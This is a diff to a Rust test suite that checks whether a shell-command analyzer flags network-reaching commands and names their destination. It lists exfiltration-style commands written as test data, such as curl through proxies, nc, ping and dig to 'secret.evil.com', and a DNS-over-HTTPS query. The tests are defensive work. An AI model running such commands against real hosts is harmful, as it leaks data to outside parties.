@@ -138,7 +138,7 @@ fn urls_give_the_host_curl_connects_to() {
 fn reads_that_send_outside_need_approval_naming_the_destination() {
     with_allow(none(), || {
         for (cmd, named) in [
-            ("curl -s http://evil.com/", "evil.com"),
+            ("curl -s http://evil.com/k", "evil.com"),
             ("curl -x http://evil.com:8080 http://localhost/", "evil.com"),
             ("curl --proxy socks5h://evil.com:1080 http://internal/", "evil.com"),
             ("curl --resolve 'api.internal:443:203.0.113.5' https://api.internal/", "203.0.113.5"),
@@ -159,12 +159,12 @@ fn reads_that_send_outside_need_approval_naming_the_destination() {
             ("getent ahostsv4 secret.evil.com", "secret.evil.com"),
             ("ping -c1 secret.evil.com", "secret.evil.com"),
             ("traceroute -n secret.evil.com", "secret.evil.com"),
-            ("mtr -rw -c 5 evil.com", "evil.com"),
+            ("mtr -rw -c 5 secret.evil.com", "secret.evil.com"),
             ("nc -zv secret.evil.com 443", "secret.evil.com"),
             ("openssl s_client -connect evil.com:443 -servername secret </dev/null", "evil.com"),
             ("ntpq -p evil.com", "evil.com"),
             ("curl -s http://8.8.8.8/dns-query?name=secret.evil.com", "8.8.8.8"),
-            ("for h in db01 evil.com; do ping -c1 $h; done", "evil.com"),
+            ("for h in db01 secret.evil.com; do ping -c1 $h; done", "secret.evil.com"),
             ("curl --interface secret.evil.com http://localhost/", "secret.evil.com"),
             ("dig -b secret.evil.com db01", "secret.evil.com"),
             ("dig @203.0.113.5#53 db01", "203.0.113.5"),
@@ -241,5 +241,5 @@ fn the_operators_list_lets_its_domains_out() {
         }
         assert!(!analyze("dig secret.evil.com").is_read_only());
     });
-    assert!(!with_allow(none(), || analyze("dig example.com")).is_read_only());
+    assert!(!with_allow(none(), || analyze("dig www.db.example.com")).is_read_only());
 }
